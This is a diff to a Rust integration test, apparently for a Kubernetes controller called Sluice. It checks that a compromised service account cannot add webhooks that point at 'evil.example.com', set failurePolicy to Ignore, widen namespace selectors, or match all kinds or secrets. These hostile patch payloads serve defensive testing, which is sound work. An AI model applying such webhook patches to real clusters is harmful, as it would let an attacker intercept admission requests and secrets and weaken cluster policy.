@@ -19,6 +19,7 @@ use crate::support::{Scene, refusal};
 const SYSTEM: &str = "Sluice's account may write nothing in a system namespace";
 const FIELDS: &str = "Sluice's account may change only the suspend field, node selectors, tolerations, and its own labels and annotations";
 const HOOKS: &str = "Sluice's account may change only the caBundle, the rules of managed kinds and its match conditions";
+const OF_GATES: &str = "the webhook of a Gate must be as that for jobs, for no more namespaces, and only for Job-like kinds and pods";
 const ENTRY: &str = "is not a key of Sluice: its account may write no others";
 const RBAC: &str = "User \"system:serviceaccount:sluice-system:sluice\" cannot";
 
@@ -368,6 +369,25 @@ async fn its_webhooks_go_on_asking_sluice() -> Result<()> {
             ] {
                 let body = add(&format!("/webhooks/0/{field}"), value);
                 thief.is_denied(Method::PATCH, &path, body, why).await?;
+            }
+            let stored = thief.send(Method::GET, &path, &Value::Null).await?;
+            let jobs = &stored["webhooks"][0];
+            let like_jobs = |field: &str, value: Value| {
+                let mut webhook = jobs.clone();
+                webhook["name"] = json!("x.y.gates.sluice.dev");
+                webhook[field] = value;
+                webhook
+            };
+            for webhook in [
+                like_jobs("clientConfig", json!({"url": "https://evil.example.com/x"})),
+                like_jobs("failurePolicy", json!("Ignore")),
+                like_jobs("namespaceSelector", json!({})),
+                like_jobs("matchConditions", json!([])),
+                like_jobs("rules", json!([all])),
+                like_jobs("rules", json!([secrets])),
+            ] {
+                let body = add("/webhooks/-", webhook);
+                thief.is_denied(Method::PATCH, &path, body, OF_GATES).await?;
             }
             let body = json!([{"op": "remove", "path": "/webhooks/0"}]);
             thief.is_denied(Method::PATCH, &path, body, "may neither add nor remove a webhook").await?;
